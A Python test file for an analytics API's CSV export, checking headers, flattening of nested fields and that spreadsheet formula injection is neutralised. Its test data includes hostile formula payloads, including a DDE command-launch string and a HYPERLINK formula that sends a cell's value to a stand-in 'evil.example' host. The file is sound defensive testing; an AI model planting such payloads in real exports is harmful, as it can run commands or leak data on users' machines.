"""CSV answers: a fixed header per endpoint, one line per row, nested objects flattened."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
import redis.asyncio as aioredis

from infraprism.api import csv_export
from infraprism.api.planner import GroupBy
from infraprism.settings import Settings
from tests.api.helpers import RANGE, load_events, sample_event


def test_render_quotes_flattens_and_writes_nulls_and_booleans():
    text = csv_export.render(
        ["name", "n", "missing", "flag", "nested.inner"],
        [{"name": 'globex, "inc"', "n": 1.5, "missing": None, "flag": False, "nested": {"inner": 7}}],
    )
    assert text == 'name,n,missing,flag,nested.inner\r\n"globex, ""inc""",1.5,,false,7\r\n'
    assert csv_export.render(["a", "b"], []) == "a,b\r\n"  # the header even without rows


def test_flatten_joins_nested_names_with_dots():
    assert csv_export.flatten({"period1": {"total_cost": 1, "x": {"y": 2}}, "z": 3}) == {
        "period1.total_cost": 1,
        "period1.x.y": 2,
        "z": 3,
    }


def test_costs_columns_are_the_groupings_fields_then_the_metrics():
    assert csv_export.costs_columns(GroupBy.NONE) == csv_export.METRIC_COLUMNS
    assert csv_export.costs_columns(GroupBy.TAG)[:3] == ["tag_key", "tag_value", "total_cost"]
    assert csv_export.costs_columns(GroupBy.WEEK)[0] == "period"


def _csv(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text)))


async def test_csv_costs_by_entity_has_a_header_and_one_line_per_row(with_sample_events: httpx.AsyncClient):
    params = {**RANGE, "group_by": "entity"}
    as_json = (await with_sample_events.get("/v1/analytics/costs", params=params)).json()
    rows = _csv(await with_sample_events.get("/v1/analytics/costs", params={**params, "format": "csv"}))
    assert rows[0] == [
        "entity_type",
        "entity_id",
        "total_cost",
        "total_events",
        "total_input_tokens",
        "total_output_tokens",
        "avg_latency_ms",
    ]
    assert len(rows) == 1 + len(as_json["data"]) == 4
    for line, row in zip(rows[1:], as_json["data"], strict=True):
        assert line[1] == row["entity_id"]  # "globex, inc" survives quoting
        assert float(line[2]) == row["total_cost"]
        assert int(line[3]) == row["total_events"]


async def test_csv_compare_flattens_nested_objects(with_sample_events: httpx.AsyncClient):
    params = {
        "period1_start": "2025-01-01",
        "period1_end": "2025-01-15",
        "period2_start": "2024-12-01",
        "period2_end": "2024-12-31",
        "format": "csv",
    }
    rows = _csv(await with_sample_events.get("/v1/analytics/compare", params=params))
    assert len(rows) == 2
    assert rows[0] == csv_export.COMPARE_COLUMNS
    header = dict(zip(rows[0], rows[1], strict=True))
    assert header["period1.start"] == "2025-01-01"
    assert header["period2.total_cost"] == "0.0"
    assert header["changes.cost_change_percent"] == ""  # null: period2 is 0


@pytest.mark.parametrize(
    ("path", "extra", "columns"),
    [
        ("/v1/analytics/costs/timeseries", {}, ["timestamp", "cost", "events"]),
        ("/v1/analytics/entities/top", {}, ["entity_type", "entity_id", "total_cost", "total_events", "rank"]),
        ("/v1/analytics/anomalies", {}, ["id", "detected_at", "entity_type", "entity_id", "type"]),
        ("/v1/analytics/sessions", {}, ["session_id", "entity_type", "entity_id", "started_at"]),
        ("/v1/analytics/models", {}, ["model", "provider", "total_cost"]),
        ("/v1/analytics/costs", {"group_by": "tags.feature"}, ["tag_key", "tag_value", "total_cost"]),
    ],
)
async def test_csv_on_every_endpoint(with_sample_events: httpx.AsyncClient, path, extra, columns):
    params = {**RANGE, **extra}
    as_json = (await with_sample_events.get(path, params=params)).json()
    rows = _csv(await with_sample_events.get(path, params={**params, "format": "csv"}))
    assert rows[0][: len(columns)] == columns
    assert len(rows) - 1 == len(as_json["data"])


DANGEROUS_TEXT = ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x", "a, b")', "-\n=1"]
SAFE_TEXT = ["acme", "globex, inc", 'say "hi"', "two\r\nlines", " =1", "1-2", "", "'=already"]


@pytest.mark.parametrize("text", DANGEROUS_TEXT)
def test_render_neutralises_text_a_spreadsheet_would_run_as_a_formula(text):
    (header, line) = csv.reader(io.StringIO(csv_export.render(["entity_id", "n"], [{"entity_id": text, "n": 1}])))
    assert header == ["entity_id", "n"]
    assert line == ["'" + text, "1"]


@pytest.mark.parametrize("text", SAFE_TEXT)
def test_render_leaves_other_text_as_it_is_and_quotes_it(text):
    (_, line) = csv.reader(io.StringIO(csv_export.render(["entity_id"], [{"entity_id": text}])))
    assert line == [text]


@pytest.mark.parametrize("number", [-1.5, -1, -0.000001, 0, 3, 10**22, -(2**70)])
def test_render_leaves_negative_and_other_numbers_numbers(number):
    (_, line) = csv.reader(io.StringIO(csv_export.render(["cost", "id"], [{"cost": number, "id": "-x"}])))
    assert line == [str(number), "'-x"]
    assert type(number)(line[0]) == number


def test_render_neutralises_nested_text_and_leaves_booleans_and_nulls():
    text = csv_export.render(
        ["a.b", "flag", "missing"], [{"a": {"b": "=cmd|' /C calc'!A0"}, "flag": True, "missing": None}]
    )
    assert list(csv.reader(io.StringIO(text))) == [["a.b", "flag", "missing"], ["'=cmd|' /C calc'!A0", "true", ""]]


async def test_csv_over_the_api_neutralises_an_entity_id_that_starts_with_equals(
    authed: httpx.AsyncClient, settings: Settings, project: str, redis_client: aioredis.Redis
):
    evil = '=HYPERLINK("http://evil.example/?x="&A1, "click, me")'
    await load_events(
        redis_client, settings, [sample_event(project, 0, evil, 1.5), sample_event(project, 1, "acme", 2)]
    )
    params = {**RANGE, "group_by": "entity", "format": "csv"}
    rows = _csv(await authed.get("/v1/analytics/costs", params=params))
    by_id = {line[1]: line for line in rows[1:]}
    assert set(by_id) == {"'" + evil, "acme"}
    assert float(by_id["'" + evil][2]) == 1.5
    assert int(by_id["acme"][3]) == 1
    as_json = (await authed.get("/v1/analytics/costs", params={**RANGE, "group_by": "entity"})).json()
    assert evil in {row["entity_id"] for row in as_json["data"]}  # JSON carries the id as it is
